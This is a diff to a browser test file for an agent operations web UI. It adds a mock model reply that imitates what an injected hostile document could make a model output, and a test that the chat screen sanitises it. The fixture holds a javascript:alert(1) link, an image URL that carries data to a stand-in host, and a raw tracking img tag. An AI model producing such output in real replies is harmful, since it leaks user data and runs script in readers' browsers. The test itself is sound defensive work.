@@ -14,7 +14,10 @@ let model: MockModel
 let folder: string
 beforeAll(async () => {
   if (skipsBrowser) return
-  model = await startMockModel({ script: toolThenAnswer({ total: 144 }) })
+  const read = toolThenAnswer({ total: 144 })
+  model = await startMockModel({
+    script: (request) => (request.text.includes('Compare') ? { text: markdown } : read(request)),
+  })
   folder = await mkdtemp(join(tmpdir(), 'skillrun-operate-'))
   const file = join(folder, 'configuration.json')
   const configuration = {
@@ -38,6 +41,19 @@ afterAll(async () => {
   await model?.[Symbol.asyncDispose]()
   if (folder) await rm(folder, { recursive: true, force: true })
 })
+
+/** A reply with what a hostile document could make a model say. */
+const markdown = `## Two offers
+
+| offer | total |
+| --- | ---: |
+| **Blue** | 12.50 |
+| Red | 13.00 |
+
+1. Take \`Blue\`
+2. See [the terms](https://example.com/terms) and [more](javascript:alert(1))
+
+![the map](https://example.com/map.png?read=1250) <img src="https://example.com/spy.png">`
 
 const screens = ['/queues', '/settings', '/audit', '/agents', '/sessions', '/chat', '/tools']
 /** WCAG 2.2, success criterion 1.4.3. */
@@ -163,6 +179,28 @@ describe.skipIf(skipsBrowser)('the screens of operations', () => {
     expect(json[0]).toMatchObject({ id: session?.replace('session ', ''), executions: 2 })
     await reply.getByRole('link').first().click()
     await page.getByRole('tab', { name: 'Answer' }).waitFor()
+    expect(shown.browser.complaints).toEqual([])
+    await page.close()
+  })
+
+  test('the Markdown of a reply is drawn; no HTML of it is used and nothing in it is fetched', async () => {
+    const page = await shown.page('/chat')
+    const fetched: string[] = []
+    page.on('request', (request) => fetched.push(request.url()))
+    await page.getByRole('combobox', { name: 'Model' }).selectOption('svc-agent-1:pro')
+    await page.getByRole('textbox', { name: 'Message' }).fill('Compare the two offers')
+    await page.keyboard.press('Enter')
+    const reply = page.getByRole('article', { name: 'Reply' })
+    await reply.getByRole('cell', { name: 'Blue' }).locator('strong').waitFor()
+    expect(await reply.getByRole('listitem').allTextContents()).toEqual(['Take Blue', 'See the terms and more'])
+    expect(await reply.getByRole('link', { name: 'the terms' }).getAttribute('rel')).toContain('noopener')
+    expect(await reply.locator('a[href^="javascript:"], img').count()).toBe(0)
+    await reply.getByText('<img src="https://example.com/spy.png">').waitFor()
+    await reply.getByRole('link', { name: 'the map' }).waitFor()
+    expect(await violations(page)).toEqual([])
+    await page.setViewportSize({ width: 390, height: 844 })
+    expect(await page.evaluate(overflow)).toBe(0)
+    expect(fetched.filter((url) => url.includes('example.com'))).toEqual([])
     expect(shown.browser.complaints).toEqual([])
     await page.close()
   })
